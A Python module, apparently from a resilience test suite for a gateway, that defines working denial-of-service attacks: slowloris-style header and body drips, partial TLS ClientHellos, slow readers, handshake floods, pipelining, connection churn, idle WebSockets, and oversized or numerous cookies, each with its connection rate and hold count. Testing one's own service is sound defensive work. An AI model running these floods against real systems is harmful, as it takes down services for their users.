"""Attacks with connections, handshakes and HTTP/1.1."""

import asyncio
import ssl

from attack import attack
from gateway import HOST

GET = f"GET /bulk/attack/100/length HTTP/1.1\r\nhost: {HOST}\r\n\r\n".encode()
LARGE = f"GET /bulk/attack/3000000/length HTTP/1.1\r\nhost: {HOST}\r\n\r\n".encode()


def hello():
    """A ClientHello as OpenSSL writes it."""
    sent, context = ssl.MemoryBIO(), ssl.create_default_context()
    try:
        context.wrap_bio(ssl.MemoryBIO(), sent, server_hostname=HOST).do_handshake()
    except ssl.SSLWantReadError:
        pass
    return sent.read()


def post(length):
    return f"POST /bulk/attack/1/length HTTP/1.1\r\nhost: {HOST}\r\ncontent-length: {length}\r\n\r\n".encode()


@attack("no-hello", "50 TCP connections a second that say nothing, 1000 held")
async def no_hello(attacker):
    await attacker.hold("tcp", 50, 1000)


@attack("half-hello", "50 TCP connections a second with half a ClientHello, 1000 held")
async def half_hello(attacker):
    whole = hello()
    await attacker.hold("tcp", 50, 1000, whole[:len(whole) // 2])


@attack("header-drip", "20 connections a second, 300 held, one byte of a header each second")
async def header_drip(attacker):
    await attacker.hold("h1", 20, 300, f"GET / HTTP/1.1\r\nhost: {HOST}\r\nx: ".encode(), drip=b"a")


@attack("body-drip", "20 uploads a second, 300 held, one byte of a body each second")
async def body_drip(attacker):
    await attacker.hold("h1", 20, 300, post(1_000_000), drip=b"a")


@attack("no-body", "20 uploads a second whose body never comes, 300 held")
async def no_body(attacker):
    await attacker.hold("h1", 20, 300, post(1000))


@attack("slow-reader", "10 connections a second, 150 held, each asks for 3 MB and reads for a moment every two seconds")
async def slow_reader(attacker):
    async def read(wire):
        while not wire.closed and attacker.going():
            wire.transport.resume_reading()
            await asyncio.sleep(0.005)
            if not wire.closed and not wire.transport.is_closing():
                wire.transport.pause_reading()
            await asyncio.sleep(2)

    async for _ in attacker.paced(10):
        if len(attacker.wires) < attacker.most(150):
            wire = await attacker.open("h1", LARGE, reads=False)
            if wire:
                asyncio.ensure_future(read(wire))
        attacker.tidy()


@attack("idle", "30 TLS connections a second that ask for nothing, 1000 held")
async def idle(attacker):
    await attacker.hold("h1", 30, 1000)


@attack("handshakes", "60 full handshakes a second, each left at once")
async def handshakes(attacker):
    async def one():
        wire = await attacker.open("h1")
        if wire:
            attacker.leave(wire)

    async for _ in attacker.paced(60):
        asyncio.ensure_future(one())


@attack("one-address", "40 connections a second from one address, 1500 held, one request on each every five seconds")
async def one_address(attacker):
    await attacker.hold("h1", 40, 1500, GET, drip=GET, every=5.0)


@attack("pipelined", "8 connections whose answers are read, 100 requests in one piece on each every second")
async def pipelined(attacker):
    async def one():
        wire = None
        async for _ in attacker.paced(1 / attacker.scale):
            if wire is None or wire.closed:
                wire = await attacker.open("h1")
            if wire:
                wire.write(GET * 100)
                attacker.count("requests", 100)

    await asyncio.gather(*(one() for _ in range(attacker.most(8))))


@attack("pipelined-unread", "2 connections a second, 100 held, 400 requests in one piece on each, no answer is read")
async def pipelined_unread(attacker):
    await attacker.hold("h1", 2, 100, GET * 400, reads=False)


@attack("churn", "100 TCP connections and 30 TLS connections with a request a second, all reset at once")
async def churn(attacker):
    async def one(kind, begin):
        wire = await attacker.open(kind, begin)
        if wire:
            await asyncio.sleep(0.002)
            attacker.leave(wire)

    async def every(rate, kind, begin):
        async for _ in attacker.paced(rate):
            asyncio.ensure_future(one(kind, begin))

    await asyncio.gather(every(100, "tcp", b""), every(30, "h1", LARGE))


@attack("websockets", "20 WebSockets a second, opened and left alone, 400 held")
async def websockets(attacker):
    fields = f"host: {HOST}\r\nconnection: upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n"
    key = "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
    await attacker.hold("h1", 20, 400, f"GET /socket/attack HTTP/1.1\r\n{fields}{key}\r\n".encode())


@attack("huge-cookie", "30 requests a second with a cookie of 30,000 bytes, and of 200,000")
async def huge_cookie(attacker):
    async def one(size):
        cookie = b"cookie: a=" + b"b" * size + b"\r\n\r\n"
        wire = await attacker.open("h1", GET[:-2] + cookie)
        if wire:
            await asyncio.wait([asyncio.ensure_future(wire.answers.wait())], timeout=5)
            attacker.leave(wire)

    turn = 0
    async for _ in attacker.paced(30):
        turn += 1
        asyncio.ensure_future(one(200_000 if turn % 2 else 30_000))


@attack("many-cookies", "on 4 connections, 10 times a second each, a request with 7,000 cookies")
async def many_cookies(attacker):
    request = GET[:-2] + b"cookie: " + b"a=1;" * 7000 + b"\r\n\r\n"

    async def one():
        wire = None
        async for _ in attacker.paced(10 / attacker.scale):
            if wire is None or wire.closed:
                wire = await attacker.open("h1")
            if wire:
                wire.write(request)
                attacker.count("requests")

    await asyncio.gather(*(one() for _ in range(attacker.most(4))))
